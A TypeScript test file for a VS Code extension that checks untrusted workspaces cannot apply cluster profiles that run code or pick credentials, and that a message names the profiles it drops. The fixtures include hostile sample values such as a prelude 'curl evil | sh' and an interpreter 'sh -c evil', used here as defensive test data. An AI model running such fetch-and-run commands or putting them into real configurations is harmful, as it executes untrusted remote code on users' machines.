// Workspace-level cluster profiles in an untrusted workspace: the ones with fields that run code or
// pick credentials are never applied, the user's own profiles always are, and the message names them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { codeRunningFields, ignoredProfilesMessage, profilesUnderTrust } from '../../src/config/profileTrust';
import { parseProfiles } from '../../src/config/profile';

const mine = { name: 'hpc', host: 'login.hpc.example', prelude: 'module load slurm' };
const plain = { name: 'shared', host: 'login.shared.example', user: 'me' };
const hostile = [
  { name: 'pre', host: 'h', prelude: 'curl evil | sh' },
  { name: 'loc', kind: 'local' },
  { name: 'key', host: 'h', identityFile: '~/.ssh/id_ed25519' },
  { name: 'kh', host: 'h', knownHostsFile: './known_hosts' },
  { name: 'py', host: 'h', python: { interpreter: 'sh -c evil' } },
];

test('the fields that run code or pick credentials', () => {
  assert.deepEqual(hostile.map(codeRunningFields), [['prelude'], ['kind: "local"'], ['identityFile'], ['knownHostsFile'], ['python']]);
  assert.deepEqual(codeRunningFields(plain), []);
  assert.deepEqual(codeRunningFields({ name: 'x', host: 'h', prelude: '  ' }), [], 'an empty prelude runs nothing');
  assert.deepEqual(codeRunningFields('not an object'), []);
});

test('trusted: what VS Code applies, unchanged', () => {
  const effective = [...hostile, plain];
  assert.deepEqual(profilesUnderTrust({ effective, globalValue: [mine], workspaceValue: effective }, true), { raw: effective, ignored: [] });
});

test('untrusted, VS Code did not filter (the workspace value is applied): code-running workspace profiles are dropped and named', () => {
  const workspace = [...hostile, plain];
  const r = profilesUnderTrust({ effective: workspace, globalValue: [mine], workspaceValue: workspace }, false);
  assert.deepEqual(r.raw, [plain]);
  assert.deepEqual(r.ignored, ['"pre" (prelude)', '"loc" (kind: "local")', '"key" (identityFile)', '"kh" (knownHostsFile)', '"py" (python)']);
  assert.deepEqual(parseProfiles(r.raw).profiles.map((p) => p.name), ['shared']);
});

test('untrusted, VS Code already dropped the workspace value (restricted setting): the user\'s own profiles apply, the dropped ones are still named', () => {
  const r = profilesUnderTrust({ effective: [mine], globalValue: [mine], workspaceFolderValue: [hostile[0]] }, false);
  assert.deepEqual(r.raw, [mine]);
  assert.deepEqual(r.ignored, ['"pre" (prelude)']);
});

test('untrusted: the user\'s own profile with a prelude is never dropped, even when the workspace repeats it', () => {
  const r = profilesUnderTrust({ effective: [mine], globalValue: [mine], workspaceValue: [mine] }, false);
  assert.deepEqual(r, { raw: [mine], ignored: [] });
  assert.deepEqual(profilesUnderTrust({ effective: [mine], globalValue: [mine] }, false), { raw: [mine], ignored: [] });
});

test('the message says what is ignored, why, and what to do', () => {
  assert.equal(
    ignoredProfilesMessage(['"pre" (prelude)']),
    'This workspace is not trusted, so the cluster profile "pre" (prelude) from its settings is not used: it runs code or picks credentials. Your own profiles still work; trust the workspace to use it.',
  );
  assert.match(ignoredProfilesMessage(['"a" (prelude)', '"b" (python)']), /so 2 cluster profiles \("a" \(prelude\); "b" \(python\)\) from its settings are not used: they run code or pick credentials\./);
});
